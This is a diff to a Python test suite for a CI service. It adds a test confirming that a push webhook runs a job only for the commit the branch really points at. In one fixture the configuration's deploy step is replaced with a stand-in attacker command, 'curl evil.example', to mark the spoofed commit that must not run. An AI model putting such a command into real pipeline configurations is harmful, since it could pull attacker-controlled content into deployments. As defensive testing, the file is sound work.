@@ -272,6 +272,7 @@ def test_a_push_runs_once_for_a_commit_and_again_when_the_branch_comes_back(host
     for sha in (HEAD, NEXT):
         hosted.host.files[".iac-ci.yml", sha] = CONFIGURATION
     for sha in (HEAD, HEAD, NEXT, HEAD):
+        hosted.host.heads["main"] = sha
         hosted.push(sha=sha)
     assert [stored.job.commit_hash for stored in hosted.jobs] == [HEAD, NEXT, HEAD]
     assert {stored.job.pr_number for stored in hosted.jobs} == {None}
@@ -279,6 +280,18 @@ def test_a_push_runs_once_for_a_commit_and_again_when_the_branch_comes_back(host
     hosted.host.files[".iac-ci.yml", "d" * 40] = CONFIGURATION
     hosted.push("other", "d" * 40)
     assert len(hosted.jobs) == 3
+
+
+def test_a_push_is_about_what_the_branch_is_at_and_never_about_a_commit_that_is_not_there(hosted):
+    hosted.host.files[".iac-ci.yml", HEAD] = CONFIGURATION
+    hosted.host.files[".iac-ci.yml", NEXT] = CONFIGURATION.replace(b"./deploy", b"curl evil.example")
+    hosted.host.heads["main"] = HEAD
+    hosted.push(sha=NEXT)
+    assert [stored.job.commit_hash for stored in hosted.jobs] == [HEAD]
+    del hosted.host.heads["main"]
+    hosted.host.heads["other"] = HEAD
+    hosted.send("push", {"ref": "refs/heads/main", "after": NEXT, "sender": {"id": 5, "login": "ann"}})
+    assert len(hosted.jobs) == 1
 
 
 @pytest.mark.parametrize(
